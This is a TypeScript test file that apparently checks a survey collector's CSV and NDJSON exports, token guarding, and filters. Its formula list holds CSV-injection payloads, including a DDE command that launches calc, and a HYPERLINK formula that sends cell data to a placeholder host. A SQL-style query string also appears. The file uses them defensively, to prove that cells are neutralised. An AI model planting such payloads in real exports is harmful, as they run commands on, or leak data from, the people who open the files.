import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { AnswerRecord } from '../../shared/answers/answer-record.ts';
import { FIXED_COLUMNS, rowToRecord } from '../../shared/answers/answer-table.ts';
import type { AnswerForm } from '../../shared/answers/answer-table.ts';
import { unguardFormula } from '../../shared/answers/write-csv.ts';
import { recordStored } from '../support/fault-cases.ts';
import { readCsv } from '../support/read-csv.ts';
import { BASE, CollectorUnderTest, TOKEN, idOf, record } from '../demo/collector/open-collector.ts';
import type { StoreKind } from '../support/store-homes.ts';

/** Texts that a spreadsheet would run: each sign, half and full width, alone and behind blanks and quotes. NUL is refused. */
const FORMULAS = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tplain',
    '\r\nplain',
    '=',
    '+',
    '-',
    '@',
  ],
  ...['＝1+1', '＋1', '－1+1', '＠SUM(A1)', ' ＝1', '\u3000＝1', '\u3000=1', '\u00a0=1', '  =1+1', ' \t@x'],
  ...[
    '"=1+1"',
    "'=1+1",
    `"'=1`,
    ` " -1a`,
    '=HYPERLINK("https://x.example?"&A1,"more")',
    "=cmd|' /C calc'!A0",
  ],
  ...['-2+3+cmd|x', '@SUM(1+1)*cmd|x', '=1\r\n=2', '+49 30 1234', '=IMPORTXML(A1)', '=DDE("a";"b")'],
];

/** What a collector gives back, on any store. */
export function exports(kind: StoreKind): void {
  let collector: CollectorUnderTest;
  beforeEach(async () => {
    collector = await CollectorUnderTest.open({}, await kind.home());
  });
  afterEach(() => collector.remove());

  async function csvRows(query = ''): Promise<Map<string, string>[]> {
    const bytes = await (await collector.owner(`/export.csv${query}`)).bytes();
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = readCsv(text.slice(1));
    return rows.map((cells) => {
      expect(cells).toHaveLength(header.length);
      return new Map(
        header
          .map((column, at): [string, string] => [column, unguardFormula(cells[at])])
          .filter(([, cell]) => cell !== ''),
      );
    });
  }

  describe('GET /export.csv and /export.ndjson: who may', () => {
    it.each(['/export.csv', '/export.ndjson', '/questionnaires.json'])(
      'guards %s by the token',
      async (path) => {
        const attempts = [
          {},
          { Authorization: '' },
          { Authorization: TOKEN },
          { Authorization: `Bearer ${TOKEN}x` },
          { Authorization: `Bearer ${TOKEN.slice(1)}` },
          { Authorization: `Basic ${TOKEN}` },
        ];
        for (const headers of attempts) {
          const response = await collector.app.request(BASE + path, { headers });
          expect(response.status).toBe(401);
          expect(await response.json()).toMatchObject({ error: { code: 'token' } });
        }
        expect((await collector.app.request(`${BASE}${path}?token=${TOKEN}`)).status).toBe(401);
        expect((await collector.owner(path)).status).toBe(200);
      },
    );

    it('erases nothing without the token', async () => {
      await collector.post([record(1)]);
      const response = await collector.app.request(`${BASE}/responses?context.touchpoint=arrivals`, {
        method: 'DELETE',
      });
      expect(response.status).toBe(401);
      expect(await collector.records()).toHaveLength(1);
    });

    it('hands out the questionnaires that it was given', async () => {
      const questionnaires = [
        { id: 'airport', version: 1, questions: [{ id: 'nps', kind: 'nps' } as const] },
      ];
      const given = await CollectorUnderTest.open({ questionnaires }, await kind.home());
      expect(await (await given.owner('/questionnaires.json')).json()).toEqual({ questionnaires });
      await given.remove();
    });
  });

  describe('GET /export.csv: what is in it', () => {
    const CONTACT = { reach: 'ann@example.com', consent: true } as const;
    const FORMS: Readonly<Record<string, AnswerForm>> = {
      ...{ why: 'text', reason: 'choice', picks: 'choices', contact: 'contact' },
    };
    const formOf = (id: string): AnswerForm => FORMS[id] ?? 'score';
    const comments = ['=1+1', "'=1+1", 'plain, "quoted"', 'two\r\nlines', '好评', '-3', ' @x', "'"];

    it('holds what NDJSON holds: every record comes back from its row', async () => {
      const sent = comments.map((why, at) => record(at, { answers: { csat: 1 + (at % 5), why } }));
      sent.push(record(20), record(21, { answers: {}, status: 'dismissed', context: {}, skipped: ['csat'] }));
      await collector.post(sent);
      const fromRows = (await csvRows()).map((row) => {
        const parsed = rowToRecord(row, formOf);
        return parsed.ok ? parsed.value : parsed.issues;
      });
      expect(fromRows).toEqual(sent);
      expect((await collector.records()).map(({ receivedAt, ...rest }) => [receivedAt, rest])).toEqual(
        sent.map((one) => [collector.now.toISOString(), one]),
      );
    });

    it('brings back every form of answer, from its row and from its line', async () => {
      const service = { importance: { speed: 5, price: 1 }, satisfaction: { speed: 3 } };
      const answers: readonly AnswerRecord['answers'][] = [
        { ces: 7, depth: -5, reason: 'price', picks: ['price', 'range'], contact: CONTACT },
        { reason: { other: 'Music, "live"' }, picks: [{ other: 'two\r\nlines' }] },
        { picks: ['price', { other: 'true' }], contact: { ...CONTACT, name: 'Ann' }, service },
        { picks: ['price'], why: '7' },
      ];
      const sent = answers.map((given, at) =>
        record(at, { answers: given, order: { picks: ['range', 'price', 'other'] } }),
      );
      expect(await (await collector.post(sent)).json()).toMatchObject({
        stored: sent.map(({ id }) => ({ id })),
        refused: [],
      });
      expect((await csvRows()).map((row) => rowToRecord(row, formOf))).toEqual(
        sent.map((value) => ({ ok: true, value })),
      );
      expect((await collector.records()).map(({ receivedAt, ...rest }) => [receivedAt, rest])).toEqual(
        sent.map((one) => [collector.now.toISOString(), one]),
      );
    });

    it('has a column for each part of an answer, and no other', async () => {
      await collector.post([
        record(1, {
          answers: { picks: ['price', { other: 'Music' }], contact: CONTACT, reason: { other: 'x' } },
        }),
      ]);
      const [row] = await csvRows();
      expect([...row.keys()].filter((column) => /^(picks|contact|reason)/.test(column))).toEqual([
        ...['picks', 'picks.other', 'contact.reach', 'contact.consent', 'reason.other'],
      ]);
    });

    it('refuses a contact without consent, and says so', async () => {
      const response = await collector.post([
        { ...record(1), answers: { contact: { reach: '@ann', consent: false } } },
      ]);
      expect(await response.json()).toMatchObject({
        stored: [],
        refused: [
          {
            code: 'invalid',
            reason: 'answers.contact.consent: expected true: without consent there is no contact',
          },
        ],
      });
      expect(await collector.records()).toEqual([]);
    });

    it.each<[string, AnswerRecord['answers'], string]>([
      ['own words for one option', { reason: { other: '=cmd|x' } }, 'reason.other'],
      ['own words beside many', { picks: ['price', { other: '+1+1' }] }, 'picks.other'],
      ['a telephone number', { contact: { ...CONTACT, reach: '+49 30 1234' } }, 'contact.reach'],
      ['a handle', { contact: { ...CONTACT, reach: '@ann' } }, 'contact.reach'],
      ['a name', { contact: { ...CONTACT, name: '-Ann' } }, 'contact.name'],
    ])('guards %s that a spreadsheet would run', async (_, answers, column) => {
      await collector.post([record(1, { answers })]);
      const text = await (await collector.owner('/export.csv')).text();
      const [header, cells] = readCsv(text.slice(1));
      expect(cells[header.indexOf(column)]).toMatch(/^'[=+@-]/);
      expect((await csvRows()).map((row) => rowToRecord(row, formOf))).toMatchObject([
        { ok: true, value: { answers } },
      ]);
    });

    it('begins with the fixed columns and the context, and says when each record arrived', async () => {
      await collector.post([record(1)]);
      const response = await collector.owner('/export.csv');
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toBe('attachment; filename="fourfold-answers.csv"');
      const [header] = (await response.text()).split('\r\n');
      expect(header.split(',').slice(0, FIXED_COLUMNS.length + 1)).toEqual([
        ...FIXED_COLUMNS,
        'context.touchpoint',
      ]);
      expect((await csvRows())[0].get('receivedAt')).toBe('2026-03-01T12:00:00.000Z');
    });

    it('has a column that only the last of many pages holds', async () => {
      await collector.post(Array.from({ length: 600 }, (_, at) => record(at, { answers: { csat: 3 } })));
      await collector.post([record(600, { answers: { late: 5 } })]);
      const rows = await csvRows();
      expect(rows).toHaveLength(601);
      expect(rows[600].get('late')).toBe('5');
      expect(new Set(rows.map((row) => row.get('id'))).size).toBe(601);
    });

    it(`R1 guards ${FORMULAS.length} formula cells, leaves NDJSON as it is and restores them from the table`, async () => {
      const sent = FORMULAS.map((text, at) =>
        record(at, { answers: { why: text, reason: { other: text } }, context: { note: text } }),
      );
      expect(await (await collector.post(sent)).json()).toMatchObject({ refused: [] });
      const text = await (await collector.owner('/export.csv')).text();
      const [header, ...rows] = readCsv(text.slice(1));
      for (const column of ['why', 'reason.other', 'context.note']) {
        const cells = rows.map((row) => row[header.indexOf(column)]);
        expect(cells).toEqual(FORMULAS.map((formula) => `'${formula}`));
      }
      const restored = (await csvRows()).map((row) => rowToRecord(row, formOf));
      expect(restored).toEqual(sent.map((value) => ({ ok: true, value })));
      const lines = (await collector.records()).map(({ answers }) => answers);
      expect(lines).toEqual(sent.map(({ answers }) => answers));
      const stored = rows.map((row) => row[header.indexOf('id')]);
      recordStored('R1 formula cells', kind.name, { given: sent.map(({ id }) => id), stored });
    });

    it('has a header and no rows when there are no answers', async () => {
      expect(await csvRows()).toEqual([]);
      expect(await collector.records()).toEqual([]);
    });
  });

  describe('GET /export.ndjson?survey=&from=&until=', () => {
    beforeEach(async () => {
      await collector.post([
        record(1, { shownAt: '2026-01-31T23:59:59.999Z' }),
        record(2, { shownAt: '2026-02-01T00:00:00Z' }),
        record(3, { shownAt: '2026-02-02T23:59:59.999Z', survey: 'parking' }),
        record(4, { shownAt: '2026-02-03T00:00:00.000Z' }),
      ]);
    });

    it.each([
      ['', [1, 2, 3, 4]],
      ['?survey=airport', [1, 2, 4]],
      ['?survey=none', []],
      ['?from=2026-02-01', [2, 3, 4]],
      ['?until=2026-02-02', [1, 2, 3]],
      ['?from=2026-02-01&until=2026-02-02&survey=airport', [2]],
      ['?survey=&from=&until=', [1, 2, 3, 4]],
    ])('%s lets days in UTC through, both ends included', async (query, numbers) => {
      expect((await collector.records(query)).map(({ id }) => id)).toEqual(numbers.map(idOf));
      expect((await csvRows(query)).map((row) => row.get('id'))).toEqual(numbers.map(idOf));
    });

    it.each([
      '?from=yesterday',
      '?until=2026-02-30',
      '?survey=a%20b',
      "?survey=x'--",
      '?limit=1',
      '?from=2026-01-01&from=2026-01-02',
    ])('refuses %s', async (query) => {
      const response = await collector.owner(`/export.ndjson${query}`);
      expect(response.status).toBe(400);
      expect(await response.json()).toMatchObject({ error: { code: 'query' } });
    });
  });
}
